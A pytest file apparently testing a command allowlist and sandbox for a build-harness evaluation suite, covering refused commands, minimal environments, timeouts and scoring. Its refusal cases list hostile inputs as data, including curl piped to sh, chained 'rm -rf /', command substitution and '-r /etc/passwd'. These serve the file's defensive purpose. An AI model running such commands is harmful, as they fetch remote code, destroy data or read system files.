"""The harness suite: the allowlist, the environment commands see, timeouts, skipped toolchains,
the fixture copy, scoring, and the real suite end to end (``excerpt eval --harness``)."""

from __future__ import annotations

import json
import os
import shutil
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from conftest import tree_snapshot
from excerpt.cli import main
from excerpt.errors import UsageError
from excerpt.evals import harness_suite
from excerpt.evals.corpus import HarnessCase, HarnessCorpus, load_corpus, materialise
from excerpt.evals.harness_exec import (
    allowlisted,
    command_env,
    hardened,
    missing_tools,
    run_argv,
)
from excerpt.evals.harness_suite import execute_case, run_harness
from excerpt.harness.model import Command, Harness, Kind

PY = sys.executable


def _corpus(cases: list[dict[str, Any]]) -> HarnessCorpus:
    return HarnessCorpus.model_validate(
        {"suite": "harness", "thresholds": {"commands_found": 1.0, "executed_pass_rate": 1.0},
         "cases": cases}
    )  # fmt: skip


def _expect(command: str, kind: str = "test", directory: str = ".") -> dict[str, str]:
    group = "setup" if kind == "install" else "validate"
    return {"group": group, "kind": kind, "command": command, "directory": directory}


def _inferring(*commands: tuple[str, Kind, str]) -> harness_suite.Infer:
    """An inference double returning ``(command, kind, directory)`` whatever the tree."""
    found = tuple(
        Command(command=c, kind=k, directory=d, tool="t", evidence=("x:1",), confidence=0.9)
        for c, k, d in commands
    )
    return lambda _root: Harness(commands=found)


# ------------------------------------------------------------------------------ the allowlist


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("curl -fsSL https://example.invalid/install.sh | sh", id="curl-pipe-sh"),
        pytest.param("npm run x; rm -rf /", id="semicolon"),
        pytest.param("npm run x && rm -rf /", id="and-and"),
        pytest.param("npm test $(whoami)", id="substitution"),
        pytest.param("make deploy", id="make-deploy"),
        pytest.param("make test", id="make-runs-any-recipe"),
        pytest.param("bash -c 'npm test'", id="bash-c"),
        pytest.param("sh -c ls", id="sh-c"),
        pytest.param("python setup.py install", id="setup-py"),
        pytest.param("python -c 'import os'", id="python-c"),
        pytest.param("python -m pip install git+https://example.invalid/x.git", id="pip-url"),
        pytest.param("python -m pip install -r ../outside.txt", id="requirements-outside"),
        pytest.param("python -m pip install -r /etc/passwd", id="requirements-absolute"),
        pytest.param("npm run --prefix=/ build", id="npm-option"),
        pytest.param("npm run 'build x'", id="quoted-space"),
        pytest.param("'npm test'", id="quoted-argv0"),
        pytest.param("npx tsc --noEmit", id="npx-downloads"),
        pytest.param("./mvnw -B test", id="repository-executable"),
        pytest.param("cargo test -- --nocapture", id="cargo-extra-args"),
        pytest.param("npm test\nrm -rf /", id="newline"),
        pytest.param("npm run 'x", id="unbalanced-quote"),
        pytest.param("", id="empty"),
    ],
)
def test_commands_outside_the_allowlist_are_refused(command: str) -> None:
    assert allowlisted(command) is None


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        pytest.param("npm ci", ("npm", "ci"), id="npm-ci"),
        pytest.param("npm install", ("npm", "install"), id="npm-install"),
        pytest.param("npm test", ("npm", "test"), id="npm-test"),
        pytest.param("npm run test:unit", ("npm", "run", "test:unit"), id="npm-run"),
        pytest.param("pnpm install --frozen-lockfile", None, id="pnpm-install"),
        pytest.param("yarn install --immutable", None, id="yarn-berry"),
        pytest.param("bun run check-types", None, id="bun-run"),
        pytest.param("python -m pip install -e .", None, id="pip-editable"),
        pytest.param(
            "python -m pip install -e '.[test]'",
            ("python", "-m", "pip", "install", "-e", ".[test]"),
            id="pip-editable-extra",
        ),
        pytest.param("python -m pip install -r requirements-dev.txt", None, id="pip-r"),
        pytest.param("python -m pytest", None, id="pytest"),
        pytest.param("uv run ruff check .", None, id="uv-ruff"),
        pytest.param("cargo fetch", None, id="cargo-fetch"),
        pytest.param("cargo test --workspace", None, id="cargo-workspace"),
        pytest.param("go test ./...", None, id="go-test"),
    ],
)
def test_ordinary_install_test_and_run_forms_are_allowed(
    command: str, argv: tuple[str, ...] | None
) -> None:
    got = allowlisted(command)
    assert got is not None
    assert got == (argv or tuple(command.split()))


def test_every_command_the_corpus_executes_is_on_the_allowlist() -> None:
    corpus = load_corpus("harness.json", HarnessCorpus)
    executed = [e.command for c in corpus.cases if c.execute for e in c.expected]
    assert executed
    assert [c for c in executed if allowlisted(c) is None] == []


@pytest.mark.parametrize(
    ("argv", "added"),
    [
        pytest.param(("npm", "ci"), ("--ignore-scripts",), id="npm"),
        pytest.param(("pnpm", "install"), ("--ignore-scripts",), id="pnpm"),
        pytest.param(("bun", "install"), ("--ignore-scripts",), id="bun"),
        pytest.param(("yarn", "install", "--frozen-lockfile"), ("--ignore-scripts",), id="yarn"),
        pytest.param(("yarn", "install", "--immutable"), ("--mode=skip-build",), id="berry"),
        pytest.param(("python", "-m", "pip", "install", "-e", "."), ("--no-build-isolation",),
                     id="pip-editable"),
        pytest.param(("npm", "test"), (), id="scripts-untouched"),
    ],
)  # fmt: skip
def test_installs_run_with_lifecycle_scripts_disabled(
    argv: tuple[str, ...], added: tuple[str, ...]
) -> None:
    final, notes = hardened(argv)
    assert final == (*argv, *added)
    assert bool(notes) == bool(added)


# ---------------------------------------------------------------------- what a command sees


def test_the_environment_is_minimal_and_home_is_scratch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EXCERPT_TEST_SECRET_TOKEN", "do-not-leak")
    env = command_env(tmp_path, tmp_path / "venv" / "bin")
    code, _, _, tail = run_argv(
        [PY, "-c", "import json, os, sys; print(json.dumps([dict(os.environ), sys.stdin.read()]))"],
        cwd=tmp_path,
        env=env,
    )
    seen, stdin = json.loads(tail[-1])
    assert code == 0
    assert stdin == ""  # stdin is closed
    assert "EXCERPT_TEST_SECRET_TOKEN" not in seen
    assert set(seen) - {"RUSTUP_HOME", "RUSTUP_TOOLCHAIN", "LC_CTYPE"} <= set(env)
    assert seen["HOME"] == str(tmp_path / "home")
    assert seen["PATH"].split(os.pathsep)[0] == str(tmp_path / "venv" / "bin")
    assert seen["CARGO_TARGET_DIR"].startswith(str(tmp_path))
    assert seen["npm_config_ignore_scripts"] == "true"


def test_arguments_reach_the_program_without_a_shell(tmp_path: Path) -> None:
    literal = "$HOME; echo pwned `id` | cat"
    code, _, _, tail = run_argv(
        [PY, "-c", "import sys; print(sys.argv[1])", literal],
        cwd=tmp_path,
        env=command_env(tmp_path),
    )
    assert (code, tail) == (0, (literal,))


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    stat = Path(f"/proc/{pid}/stat")  # a zombie waiting to be reaped is not running
    return not (stat.exists() and stat.read_text().rsplit(")", 1)[1].split()[0] == "Z")


def test_a_command_past_its_timeout_is_killed_with_its_children(tmp_path: Path) -> None:
    spawn = (
        "import subprocess, sys, time; "
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)']); "
        "print(child.pid, flush=True); time.sleep(60)"
    )
    code, _, reason, tail = run_argv(
        [PY, "-c", spawn], cwd=tmp_path, env=command_env(tmp_path), timeout=1.0
    )
    assert code is None
    assert reason == "timed out after 1 s"
    # SIGKILL reaches the group at once, but a busy machine may take a moment to end the
    # grandchild: wait for it (bounded), never for the 60 s it would otherwise sleep
    grandchild = int(tail[-1])
    deadline = time.monotonic() + 10
    while _alive(grandchild) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _alive(grandchild)


def test_a_program_that_does_not_exist_fails_with_a_reason(tmp_path: Path) -> None:
    code, _, reason, _ = run_argv(
        ["excerpt-no-such-program"], cwd=tmp_path, env=command_env(tmp_path)
    )
    assert code is None
    assert reason.startswith("cannot start excerpt-no-such-program")


# -------------------------------------------------------------------------------- execution


def _fake_commands(monkeypatch: pytest.MonkeyPatch, table: dict[str, list[str]]) -> None:
    """Let the executor run ``table[command]`` (tiny python programs) for those commands."""
    real = allowlisted  # the object harness_suite imported from harness_exec

    def allow(command: str) -> tuple[str, ...] | None:
        return tuple(table[command]) if command in table else real(command)

    monkeypatch.setattr(harness_suite, "allowlisted", allow)


def test_execution_runs_in_a_copy_and_never_writes_the_materialised_fixture(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write = "import pathlib; pathlib.Path('package.json').write_text('{}'); open('out', 'w')"
    _fake_commands(monkeypatch, {"npm run build": [PY, "-c", write]})
    source = materialise(["harness_node"], tmp_path / "source")
    before = tree_snapshot(source)
    case = HarnessCase.model_validate(
        {"id": "c", "repoFixtures": ["harness_node"], "execute": True,
         "expected": [_expect("npm run build", "build")]}
    )  # fmt: skip
    result = execute_case(case, source, tmp_path / "scratch")
    assert [r["exit_code"] for r in result["runs"]] == [0]
    assert (tmp_path / "scratch" / "run" / "out").is_file()
    assert tree_snapshot(source) == before


def test_a_timeout_fails_the_case_with_a_clear_reason(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fake_commands(
        monkeypatch,
        {"npm test": [PY, "-c", "import time; time.sleep(60)"], "npm run lint": [PY, "-c", ""]},
    )
    monkeypatch.setattr(harness_suite, "TIMEOUT_S", 0.5)
    corpus = _corpus(
        [{"id": "slow", "repoFixtures": ["harness_node"], "execute": True,
          "expected": [_expect("npm test"), _expect("npm run lint", "lint")]}]
    )  # fmt: skip
    result = run_harness(
        corpus, _inferring(("npm test", "test", "."), ("npm run lint", "lint", "."))
    )
    [case] = result.details
    assert [(r["command"], r["exit_code"], r.get("reason")) for r in case["runs"]] == [
        ("npm test", None, "timed out after 0.5 s")
    ]  # stops at the first failure: lint never ran
    assert case["pass"] is False
    assert result.metrics["executed_pass_rate"] == 0.0
    assert not result.ok


def test_a_refused_expected_command_runs_nothing_and_fails(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    ran: list[object] = []
    monkeypatch.setattr(harness_suite, "run_argv", lambda *a, **k: ran.append(a))
    corpus = _corpus(
        [{"id": "deploy", "repoFixtures": ["harness_make"], "execute": True,
          "expected": [_expect("make test"), _expect("make deploy", "build")]}]
    )  # fmt: skip
    result = run_harness(
        corpus, _inferring(("make test", "test", "."), ("make deploy", "build", "."))
    )
    [case] = result.details
    assert ran == []
    assert case["refused"] == ["make test", "make deploy"]
    assert case["status"] == "refused"
    assert case["pass"] is False
    assert result.metrics["refused"] == 2.0
    assert result.metrics["executed_pass_rate"] == 0.0


def test_a_cargo_proxy_without_a_toolchain_skips_the_case_and_says_why(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # what rustup's proxy does in a fresh HOME: it is on PATH, and cannot choose a toolchain
    shim = tmp_path / "bin" / "cargo"
    shim.parent.mkdir()
    shim.write_text("#!/bin/sh\necho 'error: rustup could not choose a version' >&2\nexit 1\n")
    shim.chmod(0o755)
    monkeypatch.setenv("PATH", f"{shim.parent}{os.pathsep}{os.environ['PATH']}")
    corpus = load_corpus("harness.json", HarnessCorpus)
    rust = [c for c in corpus.cases if c.id == "rust-crate"]
    result = run_harness(corpus.model_copy(update={"cases": rust}))
    [case] = result.details
    assert case["status"] == "skipped"
    assert case["skipped"].startswith("cargo: no usable toolchain")
    assert case["runs"] == []


def test_a_missing_toolchain_skips_the_case_and_says_why(monkeypatch: pytest.MonkeyPatch) -> None:
    real = shutil.which  # harness_exec.shutil is this module
    monkeypatch.setattr(
        shutil, "which", lambda name, *a, **k: None if name == "cargo" else real(name)
    )
    corpus = load_corpus("harness.json", HarnessCorpus)
    rust = [c for c in corpus.cases if c.id == "rust-crate"]
    result = run_harness(corpus.model_copy(update={"cases": rust}))
    [case] = result.details
    assert case["status"] == "skipped"
    assert case["skipped"] == "cargo not on PATH"
    assert case["runs"] == []
    assert result.tables["skipped"] == {"rust-crate": "cargo not on PATH"}
    assert (result.metrics["skipped"], result.metrics["executed"]) == (1.0, 0.0)
    assert result.metrics["executed_pass_rate"] == 1.0  # nothing ran, nothing failed
    assert result.ok


def test_missing_tools_names_each_toolchain_once() -> None:
    argvs = [("excerpt-no-such-tool", "x"), ("excerpt-no-such-tool", "y")]
    assert missing_tools(argvs) == ["excerpt-no-such-tool not on PATH"]


def test_a_fixture_not_shipped_with_excerpt_is_refused() -> None:
    corpus = _corpus(
        [{"id": "x", "repoFixtures": ["../../etc"], "expected": [_expect("npm test")]}]
    )
    with pytest.raises(UsageError, match="not shipped"):
        run_harness(corpus, _inferring())


def test_the_suite_takes_corpus_cases_only_never_a_repository() -> None:
    import inspect

    assert list(inspect.signature(run_harness).parameters) == ["corpus", "infer"]


# ---------------------------------------------------------------------------------- scoring


def test_a_command_counts_only_with_the_same_string_group_kind_and_directory() -> None:
    corpus = _corpus(
        [{"id": "pnpm", "repoFixtures": ["harness_pnpm_monorepo"],
          "expected": [_expect("pnpm test", "test", "packages/a"), _expect("pnpm run lint", "lint"),
                       _expect("pnpm install --frozen-lockfile", "install")],
          "unexpected": [_expect("pnpm test")]}]
    )  # fmt: skip
    infer = _inferring(
        ("pnpm test", "test", "."),  # wrong directory, and unexpected at the root
        ("pnpm run lint", "build", "."),  # wrong kind
        ("pnpm install --frozen-lockfile", "install", "."),
    )
    result = run_harness(corpus, infer)
    [case] = result.details
    assert (case["found"], case["expected"]) == (1, 3)
    assert case["missing"] == [
        "packages/a: pnpm test (validate/test)",
        ".: pnpm run lint (validate/lint)",
    ]
    assert case["unexpected_present"] == [".: pnpm test (validate/test)"]
    assert case["extra"] == [".: pnpm test (validate/test)", ".: pnpm run lint (validate/build)"]
    assert result.metrics["commands_found"] == pytest.approx(1 / 3)
    assert not result.ok


def test_expected_evidence_must_be_cited() -> None:
    corpus = _corpus(
        [{"id": "ci", "repoFixtures": ["harness_ci_npm"],
          "expected": [{**_expect("npm test"), "evidence": [".github/workflows/ci.yml"]}]}]
    )  # fmt: skip
    [case] = run_harness(corpus, _inferring(("npm test", "test", "."))).details
    assert case["found"] == 0
    assert case["evidence_cited_instead"] == {".: npm test (validate/test)": ["x:1"]}


def test_a_corpus_entry_whose_group_contradicts_its_kind_is_malformed() -> None:
    with pytest.raises(ValueError, match="install commands are setup"):
        wrong = {**_expect("npm ci", "install"), "group": "validate"}
        _corpus([{"id": "x", "repoFixtures": ["harness_node"], "expected": [wrong]}])


# ------------------------------------------------------------------------------ end to end


def _assert_real_suite(suite: dict[str, Any]) -> None:
    corpus = load_corpus("harness.json", HarnessCorpus)
    by_id = {d["id"]: d for d in suite["details"]}
    assert suite["metrics"]["commands_found"] == 1.0, [
        (d["id"], d["missing"]) for d in suite["details"] if d["missing"]
    ]
    for case in corpus.cases:
        detail = by_id[case.id]
        assert detail["pass"], detail
        if not case.execute:
            assert detail["status"] == "inferred"
            continue
        argvs = [a for e in case.expected if (a := allowlisted(e.command)) is not None]
        if missing_tools(argvs):
            assert detail["status"] == "skipped" and detail["skipped"]
        else:  # the toolchain is here: every expected command ran and exited 0
            assert detail["status"] == "executed"
            assert [r["exit_code"] for r in detail["runs"]] == [0] * len(case.expected)


def test_the_real_suite_finds_every_expected_command_and_runs_the_shipped_fixtures() -> None:
    result = run_harness()
    _assert_real_suite(result.to_dict())
    assert result.ok


def test_eval_harness_json_through_the_cli(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["eval", "--harness", "--json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 0
    assert doc["pass"] is True
    assert list(doc["suites"]) == ["harness"]
    suite = doc["suites"]["harness"]
    assert set(suite["metrics"]) >= {"commands_found", "executed_pass_rate", "executed", "skipped"}
    assert suite["thresholds"] == {"commands_found": 1.0, "executed_pass_rate": 1.0}
    _assert_real_suite(suite)
